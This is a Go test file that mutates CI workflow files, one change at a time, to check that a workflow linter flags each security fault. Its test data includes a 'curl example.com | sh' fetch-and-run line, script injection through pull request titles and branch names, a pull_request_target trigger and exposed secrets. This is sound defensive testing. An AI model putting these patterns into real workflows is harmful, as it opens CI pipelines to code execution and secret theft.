package main_test

import (
	"strings"
	"testing"
)

// brokenWorkflows change one thing in a shipped file, and name a word of the fault that must be found.
var brokenWorkflows = []struct{ name, file, before, after, fault string }{
	{"a tag for a pin", "review.yml", "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "actions/checkout@v7", "not pinned"},
	{"a pin that does not say its version", "review.yml", " # v7.0.1", "", "does not say its version"},
	{"galley from a branch", "comment.yml", "galley-social/galley@", "galley-social/galley@main # ", "not pinned"},
	{"no permissions", "review.yml", "permissions:\n  contents: read\n", "", "no permissions at the top"},
	{"a right to write at the top", "comment.yml", "permissions: {}", "permissions: {contents: write}", "permissions at the top"},
	{"one right more", "comment.yml", "      checks: write", "      packages: write\n      checks: write", "permissions of comment"},
	{"one right less", "publish.yml", "      contents: write # the ledger branch, and nothing else\n", "", "permissions of publish"},
	{"a trigger that has the secrets", "review.yml", "pull_request: {}", "pull_request_target: {}", "pull_request_target"},
	{"the title in a script", "review.yml", `exec galley review`, `echo "${{ github.event.pull_request.title }}"; exec galley review`, "run has an expression"},
	{"the branch in a script", "review.yml", `"$BASE"`, `"origin/${{ github.head_ref }}"`, "run has an expression"},
	{"an input in the action's script", "action.yml", `exec bash "$GITHUB_ACTION_PATH/.ci/release/choose"`, `echo ${{ inputs.version }}`, "run has an expression"},
	{"another script in the action", "action.yml", `exec bash "$GITHUB_ACTION_PATH/.ci/release/choose"`, `curl example.com | sh`, "something else"},
	{"an output of nothing", "action.yml", "outputs.path }}", "outputs.paths }}", "the output path"},
	{"a cache in the action", "action.yml", "cache: false", "cache: true", "cache"},
	{"a token left in the clone", "publish.yml", "          persist-credentials: false\n", "", "persist-credentials"},
	{"a token left in the review's clone", "review.yml", "persist-credentials: false", "persist-credentials: true", "persist-credentials"},
	{"a secret in the review", "review.yml", "          BASE:", "          TOKEN: ${{ secrets.MASTODON_TOKEN }}\n          BASE:", "no secret"},
	{"a token in the review", "review.yml", "          BASE:", "          TOKEN: ${{ github.token }}\n          BASE:", "its token is"},
	{"an environment in the review", "review.yml", "    timeout-minutes: 15\n", "    timeout-minutes: 15\n    environment: publish\n", "no environment"},
	{"approvals that nobody hears of", "review.yml", "[submitted, dismissed]", "[submitted]", "an approval and its withdrawal"},
	{"a comment that checks the pull request out", "comment.yml", "      - name: Fetch the plan\n", "      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n        with: {persist-credentials: false}\n      - name: Fetch the plan\n", "nothing is checked out"},
	{"a comment on what the branch is called", "comment.yml", "          GITHUB_TOKEN:", "          B: ${{ github.event.workflow_run.head_branch }}\n          GITHUB_TOKEN:", "nothing of the event"},
	{"a gate of the pull request's own policy", "comment.yml", "          ref: main\n", "          ref: ${{ github.event.workflow_run.head_sha }}\n", "the gate reads the default branch"},
	{"a gate that may comment", "comment.yml", "      pull-requests: read", "      pull-requests: write", "permissions of gate"},
	{"a gate for every event", "comment.yml", "  gate:\n    if: github.event.workflow_run.conclusion == 'success' || github.event.workflow_run.conclusion == 'failure'\n", "  gate:\n", "waits for the same reviews"},
	{"the artifact of another run", "comment.yml", "run-id: ${{ github.event.workflow_run.id }}", "run-id: 5", "the artifact is that"},
	{"forks that share a queue", "comment.yml", "${{ github.event.workflow_run.head_repository.id }}-", "", "branches of forks"},
	{"a comment on any event", "comment.yml", "permissions: {}", "  pull_request: {}\n\npermissions: {}", "after a review only"},
	{"a run that is cut off", "publish.yml", "cancel-in-progress: false", "cancel-in-progress: true", "not cancelled"},
	{"a queue for each branch", "publish.yml", "group: publish", "group: publish-${{ github.ref }}", "one runs at a time"},
	{"no environment", "publish.yml", "    environment: publish\n", "", "environment"},
	{"a push of any branch", "publish.yml", "branches: [main]", "branches: ['**']", "a push to main"},
	{"the commit that an old run carries", "publish.yml", "          ref: main\n", "", "the tip of main"},
	{"a shallow clone", "publish.yml", "          fetch-depth: 0\n", "", "the tip of main"},
	{"full hours", "publish.yml", "7,19,31,43,55", "0,15,30,45", "odd minutes"},
	{"a trigger that Gitea's runner dies on", "publish.yml", "workflow_dispatch: {}", "workflow_dispatch:", "Gitea"},
	{"a signal that stops at the shell", "publish.yml", "exec galley publish", "galley publish", "without exec"},
	{"a secret for every step", "publish.yml", "    environment: publish\n", "    environment: publish\n    env: {T: \"${{ secrets.MASTODON_TOKEN }}\"}\n", "every step has a secret"},
	{"a secret for an action", "publish.yml", "          fetch-depth: 0\n", "          fetch-depth: 0\n          token: ${{ secrets.MASTODON_TOKEN }}\n", "an action is given a secret"},
	{"a cache beside the secrets", "publish.yml", "      - name: Install galley\n", "      - uses: actions/setup-go@b7ad1dad31e06c5925ef5d2fc7ad053ef454303e # v7.0.0\n      - name: Install galley\n", "cache"},
	{"a run without an end", "publish.yml", "    timeout-minutes: 20\n", "", "timeout"},
	{"a release that may do more", "release.yml", "      id-token: write", "      id-token: write\n      packages: write", "permissions of release"},
	{"a cache beside the release", "release.yml", "cache: false", "cache: true", "cache"},
}

// TestWorkflowRulesFindFaults breaks the shipped files, each in one place.
func TestWorkflowRulesFindFaults(t *testing.T) {
	texts := workflowTexts(t)
	for _, c := range brokenWorkflows {
		t.Run(c.name, func(t *testing.T) {
			if !strings.Contains(texts[c.file], c.before) {
				t.Fatalf("%s has no %q to break", c.file, c.before)
			}
			faults := workflowFaults(c.file, strings.Replace(texts[c.file], c.before, c.after, 1))
			for _, fault := range faults {
				if strings.Contains(fault, c.fault) {
					return
				}
			}
			t.Errorf("got the faults %q, want one with %q", faults, c.fault)
		})
	}
}
